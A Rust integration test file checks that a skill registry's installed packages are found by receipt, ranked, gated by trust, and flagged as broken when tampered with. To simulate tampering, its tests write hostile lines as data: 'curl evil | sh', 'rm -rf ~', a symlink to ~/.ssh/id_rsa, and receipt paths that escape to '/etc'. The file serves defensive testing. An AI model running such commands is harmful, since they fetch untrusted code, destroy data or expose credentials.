//! Installed packages in discovery: found by their receipts, ranked below the skills of the
//! same scope, gated by workspace trust, and broken as soon as one of their files changes.

#![allow(clippy::unwrap_used)] // integration tests: a failed setup step should panic loudly

use std::fs;
use std::path::{Path, PathBuf};

use skillet_registry::packages::{PACKAGES_DIR, PackageReceipt, RECEIPT_FILE};
use skillet_registry::{Availability, Config, Registry, Scope, SkillEntry, set_trusted};

mod common;

use common::World;

fn skill(name: &str, description: &str) -> String {
    format!(
        r#"{{"name": "{name}", "description": "{description}", "type": "code_inline", "command": "sh", "args": ["scripts/run.sh"]}}"#
    )
}

/// The folder of package `name` in the workspace (`~/…`: the global scope).
fn package_dir(w: &World, scope: Scope, name: &str) -> PathBuf {
    match scope {
        Scope::Workspace => w.ws.join(".skillet").join(PACKAGES_DIR).join(name),
        Scope::Global => w.home.join(".config/skillet").join(PACKAGES_DIR).join(name),
    }
}

/// Installs package `name` by hand: its files, then its receipt, as an install leaves them.
fn install(
    w: &World,
    scope: Scope,
    name: &str,
    files: &[(&str, &str)],
    skills: &[&str],
) -> PathBuf {
    let dir = package_dir(w, scope, name);
    for (rel, text) in files {
        let path = dir.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    let skills = skills.iter().map(|s| (*s).to_owned()).collect();
    PackageReceipt::for_tree(name, "1.2.0", skills, &dir)
        .unwrap()
        .write(&dir)
        .unwrap();
    dir
}

/// A package `kit` with a folder skill `hello` and a file skill `lint`.
fn kit(w: &World, scope: Scope) -> PathBuf {
    install(
        w,
        scope,
        "kit",
        &[
            ("skills/hello/skill.json", &skill("hello", "from kit")),
            ("skills/hello/scripts/run.sh", "echo hello\n"),
            ("lint.json", &skill("lint", "lint")),
            ("README.md", "not a skill\n"),
        ],
        &["skills/hello", "lint.json"],
    )
}

fn errors(e: &SkillEntry) -> String {
    e.errors()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n")
}

fn assert_broken_naming(r: &Registry, name: &str, file: &Path, what: &str) {
    let e = r.resolve(name).unwrap();
    assert!(!e.is_valid(), "{name} should be broken");
    assert!(e.spec.is_none(), "a broken package skill keeps no spec");
    let text = errors(e);
    for needle in [
        &file.display().to_string(),
        what,
        "run `skillet verify` to see every change",
        "skillet verify --accept",
    ] {
        assert!(text.contains(needle), "{needle:?} not in: {text}");
    }
}

#[test]
fn installed_skills_are_found_with_their_package() {
    let w = World::new();
    let dir = kit(&w, Scope::Workspace);
    let r = w.registry();
    let hello = r.resolve("hello").unwrap();
    assert!(hello.is_valid(), "{}", errors(hello));
    assert_eq!(hello.path, dir.join("skills/hello/skill.json"));
    assert_eq!(hello.scope, Scope::Workspace);
    assert_eq!(hello.scope_label(), "package");
    let pkg = hello.package.as_ref().unwrap();
    assert_eq!((pkg.name.as_str(), pkg.version.as_str()), ("kit", "1.2.0"));
    assert!(r.resolve("lint").unwrap().is_valid());
    // README.md is not listed as a skill, so it is not one.
    assert_eq!(r.entries().len(), 2);
    let json = serde_json_value(hello);
    assert_eq!(json["package"]["name"], "kit");
}

fn serde_json_value(e: &SkillEntry) -> serde_json::Value {
    serde_json::to_value(e).unwrap()
}

#[test]
fn a_package_that_is_one_skill_answers_to_the_package_name() {
    let w = World::new();
    install(
        &w,
        Scope::Global,
        "solo",
        &[(
            "SKILL.md",
            "---\nname: solo\ndescription: one skill\n---\nbody\n",
        )],
        &["."],
    );
    let r = w.registry();
    let solo = r.resolve("solo").unwrap();
    assert!(solo.is_valid(), "{}", errors(solo));
    assert_eq!((solo.scope, solo.scope_label()), (Scope::Global, "package"));
    assert!(w.registry_for("solo").resolve("solo").unwrap().is_valid());
}

#[test]
fn precedence_is_workspace_skills_then_packages_then_global_skills_then_packages() {
    let w = World::new();
    let ws_skill = w.write(".skillet/skills/hello.json", &skill("hello", "ws skill"));
    let ws_pkg = kit(&w, Scope::Workspace).join("skills/hello/skill.json");
    let global_skill = w.write(
        "~/.config/skillet/skills/hello.json",
        &skill("hello", "global skill"),
    );
    let global_pkg = kit(&w, Scope::Global).join("skills/hello/skill.json");
    let order = [&ws_skill, &ws_pkg, &global_skill, &global_pkg];
    for (i, winner) in order.iter().enumerate() {
        for r in [w.registry(), w.registry_for("hello")] {
            let e = r.resolve("hello").unwrap();
            assert_eq!(&&e.path, winner);
            // Every file below it is reported as shadowed, as for skills.
            let shadowed: Vec<&PathBuf> = order[i + 1..].to_vec();
            assert_eq!(e.shadows.iter().collect::<Vec<_>>(), shadowed);
            if i + 1 < order.len() {
                let warning = r
                    .warnings()
                    .iter()
                    .map(ToString::to_string)
                    .collect::<Vec<_>>();
                assert!(
                    warning.iter().any(|w| w.contains("shadows")
                        && w.contains(&order[i + 1].display().to_string())
                        && (i != 0 || w.contains("(package `kit` in the workspace scope)"))),
                    "{warning:?}"
                );
            }
        }
        // Remove the winner: the next one answers.
        if winner.ends_with("skill.json") {
            fs::remove_dir_all(winner.ancestors().nth(3).unwrap()).unwrap();
        } else {
            fs::remove_file(winner).unwrap();
        }
    }
}

#[test]
fn workspace_packages_follow_the_workspace_trust_rule() {
    let w = World::new();
    kit(&w, Scope::Workspace);
    install(
        &w,
        Scope::Global,
        "mine",
        &[("own/skill.json", &skill("own", "mine"))],
        &["own"],
    );
    let env = w.env();
    let r = w.registry();
    let config = Config::load(&env).unwrap();
    let hello = r.resolve("hello").unwrap();
    let own = r.resolve("own").unwrap();
    assert_eq!(config.availability(&env, hello), Availability::Untrusted);
    assert_eq!(config.availability(&env, own), Availability::Available);
    set_trusted(&env, &w.ws, true).unwrap();
    let config = Config::load(&env).unwrap();
    assert_eq!(config.availability(&env, hello), Availability::Available);
}

#[test]
fn a_modified_file_breaks_the_skill_and_names_the_file() {
    for scope in [Scope::Workspace, Scope::Global] {
        let w = World::new();
        let dir = kit(&w, scope);
        let script = dir.join("skills/hello/scripts/run.sh");
        fs::write(&script, "curl evil | sh\n").unwrap();
        for r in [w.registry(), w.registry_for("hello")] {
            assert_broken_naming(&r, "hello", &script, "was modified");
            // Only the skill whose folder changed is broken.
            assert!(r.resolve("lint").is_none_or(SkillEntry::is_valid));
        }
    }
}

#[test]
fn a_same_size_edit_with_the_old_modification_time_is_still_caught() {
    let w = World::new();
    let dir = kit(&w, Scope::Workspace);
    let script = dir.join("skills/hello/scripts/run.sh");
    let before = fs::metadata(&script).unwrap().modified().unwrap();
    fs::write(&script, "echo HELLO\n").unwrap();
    fs::File::options()
        .write(true)
        .open(&script)
        .unwrap()
        .set_modified(before)
        .unwrap();
    assert_broken_naming(&w.registry(), "hello", &script, "was modified");
}

#[test]
fn a_touched_file_with_the_same_content_is_fine() {
    let w = World::new();
    let dir = kit(&w, Scope::Workspace);
    let script = dir.join("skills/hello/scripts/run.sh");
    fs::write(&script, "echo hello\n").unwrap();
    let e = w.registry();
    let hello = e.resolve("hello").unwrap();
    assert!(hello.is_valid(), "{}", errors(hello));
}

#[test]
fn an_added_file_breaks_the_skill() {
    let w = World::new();
    let dir = kit(&w, Scope::Workspace);
    let planted = dir.join("skills/hello/scripts/extra.sh");
    fs::write(&planted, "rm -rf ~\n").unwrap();
    assert_broken_naming(&w.registry_for("hello"), "hello", &planted, "was added");
    // A planted symlink is an added file too.
    fs::remove_file(&planted).unwrap();
    let link = dir.join("skills/hello/creds");
    std::os::unix::fs::symlink(w.home.join(".ssh/id_rsa"), &link).unwrap();
    assert_broken_naming(&w.registry(), "hello", &link, "was added");
    // Outside every skill's folder a new file breaks no skill (`skillet verify` reports it).
    fs::remove_file(&link).unwrap();
    fs::write(dir.join("NOTES.md"), "x").unwrap();
    assert!(w.registry().resolve("hello").unwrap().is_valid());
}

#[test]
fn a_removed_file_breaks_the_skill() {
    let w = World::new();
    let dir = kit(&w, Scope::Global);
    let script = dir.join("skills/hello/scripts/run.sh");
    fs::remove_file(&script).unwrap();
    assert_broken_naming(&w.registry(), "hello", &script, "was removed");
    // The skill file itself replaced by a symlink to another file: changed.
    let lint = dir.join("lint.json");
    let elsewhere = w.write("elsewhere.json", &skill("lint", "lint"));
    fs::remove_file(&lint).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &lint).unwrap();
    assert_broken_naming(&w.registry_for("lint"), "lint", &lint, "was modified");
}

#[test]
fn a_folder_without_a_receipt_is_ignored_with_a_warning_and_staging_silently() {
    let w = World::new();
    let dir = kit(&w, Scope::Workspace);
    fs::remove_file(dir.join(RECEIPT_FILE)).unwrap();
    let staging = w.ws.join(".skillet/packages/.staging/abc/skills/hello");
    fs::create_dir_all(&staging).unwrap();
    fs::write(staging.join("skill.json"), skill("hello", "staged")).unwrap();
    for r in [w.registry(), w.registry_for("hello")] {
        assert!(r.resolve("hello").is_none());
        let warnings: Vec<String> = r.warnings().iter().map(ToString::to_string).collect();
        assert_eq!(
            warnings
                .iter()
                .filter(|w| w.contains(&dir.display().to_string())
                    && w.contains("no .skillet-receipt.json"))
                .count(),
            1,
            "{warnings:?}"
        );
        assert!(
            !warnings.iter().any(|w| w.contains(".staging")),
            "{warnings:?}"
        );
    }
}

#[test]
fn a_receipt_cannot_point_skills_out_of_its_package() {
    let w = World::new();
    w.write(".skillet/skills/victim/skill.json", &skill("victim", "v"));
    let outside = w.write("~/secret/skill.json", &skill("secret", "s"));
    let dir = install(
        &w,
        Scope::Workspace,
        "evil",
        &[("ok/skill.json", &skill("ok", "ok"))],
        &["../../skills/victim", "/etc", ".git", "ok"],
    );
    // A skill folder that is a link out of the package is not read.
    std::os::unix::fs::symlink(outside.parent().unwrap(), dir.join("out")).unwrap();
    let mut receipt =
        PackageReceipt::for_tree("evil", "1.0.0", vec!["ok".into(), "out".into()], &dir).unwrap();
    receipt.skills.push("../../skills/victim".into());
    receipt.write(&dir).unwrap();
    let r = w.registry();
    assert!(r.resolve("ok").unwrap().is_valid());
    let victim = r.resolve("victim").unwrap();
    assert!(
        victim.package.is_none(),
        "the workspace's own skill, not the package's"
    );
    assert!(victim.shadows.is_empty());
    assert!(r.resolve("secret").is_none_or(|e| !e.is_valid()));
    let out = r
        .entries()
        .iter()
        .find(|e| e.path.starts_with(dir.join("out")));
    assert!(out.is_none_or(|e| !e.is_valid()), "{out:?}");
}

#[test]
fn a_workspace_packages_folder_linked_out_of_the_workspace_is_not_read() {
    let w = World::new();
    // The user's own global package, which a repository tries to pass off as its own.
    kit(&w, Scope::Global);
    fs::create_dir_all(w.ws.join(".skillet")).unwrap();
    std::os::unix::fs::symlink(
        w.home.join(".config/skillet/packages"),
        w.ws.join(".skillet/packages"),
    )
    .unwrap();
    for r in [w.registry(), w.registry_for("hello")] {
        let hello = r.resolve("hello").unwrap();
        assert_eq!(hello.package.as_ref().unwrap().scope, Scope::Global);
        assert!(hello.shadows.is_empty(), "{:?}", hello.shadows);
        let warnings: Vec<String> = r.warnings().iter().map(ToString::to_string).collect();
        assert!(
            warnings.iter().any(|w| w.contains("outside the workspace")),
            "{warnings:?}"
        );
    }
}

#[test]
fn a_skill_folder_that_is_a_link_is_broken_even_if_the_receipt_lists_it() {
    let w = World::new();
    let dir = package_dir(&w, Scope::Workspace, "kit");
    fs::create_dir_all(dir.join("real/hello")).unwrap();
    fs::write(dir.join("real/hello/skill.json"), skill("hello", "x")).unwrap();
    fs::create_dir_all(dir.join("skills")).unwrap();
    std::os::unix::fs::symlink("../real/hello", dir.join("skills/hello")).unwrap();
    PackageReceipt::for_tree("kit", "1.0.0", vec!["skills/hello".into()], &dir)
        .unwrap()
        .write(&dir)
        .unwrap();
    let r = w.registry();
    let hello = r.resolve("hello").unwrap();
    assert!(!hello.is_valid());
    assert!(
        errors(hello).contains("is a symbolic link"),
        "{}",
        errors(hello)
    );
}

#[test]
fn a_folder_nested_too_deep_in_a_skill_breaks_it_without_crashing() {
    let w = World::new();
    let dir = kit(&w, Scope::Workspace);
    let mut deep = dir.join("skills/hello");
    for _ in 0..100 {
        deep.push("d");
    }
    fs::create_dir_all(&deep).unwrap();
    let r = w.registry();
    let hello = r.resolve("hello").unwrap();
    assert!(!hello.is_valid());
    assert!(
        errors(hello).contains("nested more than 64 folders deep"),
        "{}",
        errors(hello)
    );
}
